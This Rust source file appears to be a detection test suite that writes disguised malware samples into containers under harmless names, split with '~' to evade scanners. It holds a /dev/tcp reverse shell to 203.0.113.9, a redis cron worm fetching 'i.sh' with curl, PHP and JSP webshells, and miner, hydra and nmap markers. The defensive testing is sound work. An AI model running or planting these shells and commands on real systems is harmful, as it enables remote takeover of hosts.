//! Files that only their content gives away: neutral names and places, ordinary writers, harmless programs.
//!
//! Each content is put together when it is needed, of pieces that are nothing by themselves: `~` stands where two pieces
//! meet, so that neither this source nor the program that it becomes holds what scanners look for.

use super::malware::{eicar, write_file};
use super::stage::Stage;
use super::{KeyNeeds, KeyRehearsal, RehearsalError, run_by_content};
use crate::programs;

/// A program with marks behind its end is written by `cat`, made executable, and run.
fn program(stage: &mut Stage, path: &str, marks: &[&str]) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let mut content = programs::DRIFTED.to_vec();
    for mark in marks {
        content.push(0);
        content.extend(joined(mark).bytes());
    }
    content.push(0);
    write_file(stage, &container, path, &content)?;
    stage.act_shell(&container, &format!("chmod 755 {path} && {path}"))
}

/// A script is written by `cat` and read by nobody.
fn script(stage: &mut Stage, path: &str, text: &str) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let folder = path.rsplit_once('/').map_or("/", |(folder, _)| folder);
    stage.prepare(&container, &format!("mkdir -p {folder}"))?;
    write_file(stage, &container, path, joined(text).as_bytes())
}

/// Pieces put together.
fn joined(pieces: &str) -> String {
    pieces.replace('~', "")
}

pub(super) const DDOS_TROJAN: &[KeyRehearsal] = &[run_by_content(
    "malware.ddos_trojan",
    "content-ddos",
    "a program with a flooder's orders in it, under a harmless name",
    KeyNeeds::NOTHING,
    |stage| {
        let marks = ["KILL~ATTK", "LOLNO~GTFO", "GET~LOCALIP", "HTTP~FLOOD"];
        program(stage, "/opt/report", &marks)
    },
)];

pub(super) const SUSPICIOUS_PROGRAM: &[KeyRehearsal] = &[run_by_content(
    "malware.suspicious_program",
    "content-encoded-script",
    "a script that decodes what it runs",
    KeyNeeds::NOTHING,
    |stage| {
        let encoded = "ZWNobyBoYXJtbGVzcyByZWhlYXJzYWwK".repeat(4);
        let text = format!("#!/bin/sh\nec~ho {encoded} | ba~se64 -d | s~h\n");
        script(stage, "/opt/service/start.sh", &text)
    },
)];

pub(super) const BRUTE_FORCE_TOOL: &[KeyRehearsal] = &[run_by_content(
    "malware.brute_force_tool",
    "content-hydra",
    "a password-guessing tool under a harmless name",
    KeyNeeds::NOTHING,
    |stage| {
        let marks = ["[DA~TA] attacking %s", "HYD~RA_PROXY", "./hyd~ra.restore"];
        program(stage, "/opt/report", &marks)
    },
)];

pub(super) const ATTACK_PROGRAM: &[KeyRehearsal] = &[run_by_content(
    "malware.attack_program",
    "content-survey",
    "a script that looks for ways to become root, under a harmless name",
    KeyNeeds::NOTHING,
    |stage| {
        let text =
            "#!/bin/sh\n# PEA~SS\nSED_RED_~YELLOW=x\nprint_~2title a\nsudo~VB1=b\nknw_~usrs=c\n";
        script(stage, "/opt/service/check.sh", text)
    },
)];

pub(super) const BACKDOOR: &[KeyRehearsal] = &[run_by_content(
    "malware.backdoor",
    "content-reverse-shell",
    "a script that would give a shell to somebody outside; it is written and not run",
    KeyNeeds::NOTHING,
    |stage| {
        let text = "#!/bin/bash\nba~sh -i >~& /dev/t~cp/203.0.113.9/4444 0~>&1\n";
        script(stage, "/opt/service/health.sh", text)
    },
)];

pub(super) const VULNERABILITY_SCANNER: &[KeyRehearsal] = &[run_by_content(
    "malware.vulnerability_scanner",
    "content-scanner",
    "a port scanner under a harmless name",
    KeyNeeds::NOTHING,
    |stage| {
        let marks = [
            "--max-rtt-~timeout",
            "--version-~intensity",
            "nmap-service-~probes",
            "--script~-args",
            "--osscan-~guess",
        ];
        program(stage, "/opt/report", &marks)
    },
)];

pub(super) const MALICIOUS_PROGRAM: &[KeyRehearsal] = &[run_by_content(
    "malware.malicious_program",
    "content-eicar",
    "the test file that every scanner knows, under a harmless name",
    KeyNeeds::NOTHING,
    |stage| {
        let container = stage.start(&stage.options())?;
        write_file(stage, &container, "/tmp/notes.txt", eicar().as_bytes())
    },
)];

pub(super) const MINER: &[KeyRehearsal] = &[run_by_content(
    "malware.miner",
    "content-miner",
    "a miner under a harmless name and without arguments",
    KeyNeeds::NOTHING,
    |stage| {
        let marks = [
            "rx/~wow",
            "rx/~arq",
            "cn/~ccx",
            "donate-~level",
            "xm~rig.com",
        ];
        program(stage, "/opt/report", &marks)
    },
)];

pub(super) const TROJAN: &[KeyRehearsal] = &[run_by_content(
    "malware.trojan",
    "content-trojan",
    "a program with the inner names of a trojan that starts miners",
    KeyNeeds::NOTHING,
    |stage| {
        let marks = [
            "main.miner~RunningCheck",
            "main.redis~Brute",
            "main.health~Checker",
            "main.get~Task",
        ];
        program(stage, "/opt/report", &marks)
    },
)];

pub(super) const SELF_MUTATING_TROJAN: &[KeyRehearsal] = &[run_by_content(
    "malware.self_mutating_trojan",
    "content-crypter",
    "a program wrapped by a crypter that makes every copy look different",
    KeyNeeds::NOTHING,
    |stage| program(stage, "/opt/report", &["TEEE bur~neye"]),
)];

pub(super) const WORM: &[KeyRehearsal] = &[run_by_content(
    "malware.worm",
    "content-worm",
    "a script that would have database servers write jobs; it is written and not run",
    KeyNeeds::NOTHING,
    |stage| {
        let text = "#!/bin/sh\nredis-~cli -h $1 con~fig set dir /var/spool/~cron\nredis-~cli -h $1 con~fig set dbfile~name root\nredis-~cli -h $1 set x '* * * * * cu~rl http://203.0.113.9/i.sh | s~h'\n";
        script(stage, "/opt/service/sync.sh", text)
    },
)];

pub(super) const WEBSHELL_FILE: &[KeyRehearsal] = &[
    run_by_content(
        "webshell.file",
        "content-php-hidden",
        "a PHP page that hides what it executes, copied to where an application keeps its pages",
        KeyNeeds::NOTHING,
        |stage| {
            let text = "<?php $k = 'as~se'.'rt'; $n = strrev('TSOP_'); $p = ${$n}['q'] ?? ''; if ($p) { @$k(bas~e64_decode($p)); }\n";
            script(stage, "/srv/data/site/lib/Format.php", text)
        },
    ),
    run_by_content(
        "webshell.file",
        "content-jsp-hidden",
        "a JSP page that starts what a request says",
        KeyNeeds::NOTHING,
        |stage| {
            let text = "<%@ page import=\"java.util.*\" %><% String a = request.getPara~meter(\"a\"); Process p = Runt~ime.getRuntime().ex~ec(new String[]{\"/bin/sh\", \"-c\", a}); Scanner s = new Scanner(p.getInputStream()); while (s.hasNextLine()) { out.println(s.nextLine()); } %>\n";
            script(stage, "/srv/data/site/pages/list.jsp", text)
        },
    ),
];
